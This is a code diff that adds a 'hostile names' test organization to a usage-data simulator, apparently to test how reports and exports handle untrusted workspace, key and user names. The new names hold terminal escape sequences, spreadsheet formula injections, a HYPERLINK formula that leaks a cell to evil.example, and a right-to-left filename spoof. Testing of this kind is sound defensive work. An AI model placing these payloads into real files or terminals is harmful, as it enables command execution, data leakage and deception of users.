@@ -21,11 +21,12 @@ from dataclasses import dataclass, field
 from datetime import UTC, datetime, timedelta
 from typing import Any
 
+from usage_lake import words
 from usage_lake.simulator.ids import _hash, _make_id, render_time
 
-__all__ = ["DEFAULT_WORKSPACE_NAME", "Directory"]
+__all__ = ["DEFAULT_WORKSPACE_NAME", "HOSTILE_KEYS", "HOSTILE_USERS", "HOSTILE_WORKSPACES", "Directory"]
 
-DEFAULT_WORKSPACE_NAME = "Default Workspace"
+DEFAULT_WORKSPACE_NAME = words.DEFAULT_WORKSPACE  # what the Console calls it
 _TAG_USER, _TAG_EXTRA, _TAG_INVITE, _TAG_ORG = 11, 12, 13, 14
 _CREATED = datetime(2025, 3, 1, 9, 0, tzinfo=UTC)
 _ARCHIVED = datetime(2026, 11, 21, 9, 15, tzinfo=UTC)  # a recent archival: the lake still holds this workspace's usage
@@ -43,6 +44,27 @@ _SMALL_KEYS = (
     ("evals", "archived", "service_account_actor"),
     ("scripts", "expired", "default_workspace"),
     ("batch-worker", "active", "organization_scope"),  # same name as key 1, another scope
+)
+# the hostile-names organization (`SimulatedOrg.hostile()`): what anyone in an org can type into a name
+_OSC8 = "\x1b]8;;http://evil.example/\x07click\x1b]8;;\x07"
+HOSTILE_WORKSPACES = {
+    1: ("\x1b[2J\x1b[31mProduction" + _OSC8, False, {"=cmd|' /C calc'!A0": "\x1b[2Jred", "env\nFAKE": "@SUM(1,1)"}),
+    2: ('=HYPERLINK("http://evil.example/?leak="&A1,"click")', True, {"cost_center": "invoice\u202egnp.exe"}),
+}
+HOSTILE_KEYS = (
+    "invoice\u202egnp.exe",  # right-to-left override: reads as invoiceexe.png
+    "batch-worker\nFAKE ROW                $0.00",  # a newline that would forge a table row
+    "=cmd|' /C calc'!A0",  # a spreadsheet formula
+    "nul\x00bel\x07ff\x0cnonchar\ufffe\uffffdel\x7fc1\x9b",  # C0, C1 and non-characters: the chart renderer aborts on these
+    "+1-2@3\t\r",
+    "k" * 1_000_000,  # a 1,000,000-character name
+)
+HOSTILE_USERS = (
+    ("\x1b[2JAda \u202eAdmin", "ada@example.com", "admin"),
+    ("=1+1", "-dev.one@example.com", "developer"),
+    ("Dev\nTwo", "@dev.two@example.com", "developer"),
+    ("Cody\x00Coder", "=cody\x07@example.com", "claude_code_user"),
+    ("Bill \ufffePayer", "billing@example.com", "billing"),
 )
 _SMALL_USERS = (
     ("Ada Admin", "ada@example.com", "admin"),
@@ -68,6 +90,8 @@ class Directory:
     def of(cls, org: Any) -> Directory:
         seed = org.seed
         small = len(org.api_key_ids) <= len(_SMALL_KEYS) + 1
+        hostile = small and getattr(org, "hostile_names", False)
+        workspaces_named = HOSTILE_WORKSPACES if hostile else _SMALL_WORKSPACES
         directory = cls(organization={"id": _uuid(seed), "type": "organization", "name": f"Simulated Org (seed {seed})"})
         key_workspace = {s.api_key_id: s.workspace_id for s in org.streams if s.api_key_id is not None}
         # workspaces with usage, then one active and one archived that the reports never show
@@ -75,7 +99,7 @@ class Directory:
             if workspace_id is None:
                 continue
             generic = (f"Workspace {index:02d}", index % 7 == 3, {"team": f"team-{index % 4}"})
-            name, is_archived, tags = _SMALL_WORKSPACES.get(index, generic) if small else generic
+            name, is_archived, tags = workspaces_named.get(index, generic) if small else generic
             directory.workspaces.append(_workspace(workspace_id, name, index, is_archived, tags))
         staging = _make_id("wrkspc", seed, _TAG_EXTRA, 1)
         sandbox = _make_id("wrkspc", seed, _TAG_EXTRA, 2)
@@ -83,7 +107,8 @@ class Directory:
         directory.workspaces.append(_workspace(sandbox, "Old Sandbox", 91, True, {"cost_center": "R&D"}, archived_at=_CREATED + timedelta(days=60)))
         archived = {w["id"] for w in directory.workspaces if w["archived_at"]}
         # users first: keys name them as creators and principals
-        people = _SMALL_USERS if small else tuple((f"User {i:03d}", f"user{i:03d}@example.com", ("developer", "user", "claude_code_user")[i % 3])
+        small_users = HOSTILE_USERS if hostile else _SMALL_USERS
+        people = small_users if small else tuple((f"User {i:03d}", f"user{i:03d}@example.com", ("developer", "user", "claude_code_user")[i % 3])
                                                   for i in range(max(5, len(org.api_key_ids) // 20)))
         for index, (name, email, role) in enumerate(people):
             directory.users.append({"id": _make_id("user", seed, _TAG_USER, index), "type": "user", "email": email, "name": name,
@@ -93,6 +118,7 @@ class Directory:
             workspace_id = key_workspace.get(key_id)
             if small:
                 name, status, shape = _SMALL_KEYS[index]
+                name = HOSTILE_KEYS[index] if hostile else name
             else:
                 name, shape = f"key-{index:04d}", ("principal_id", "principal_actor_no_scope")[index % 2]
                 status = "archived" if workspace_id in archived else "active"
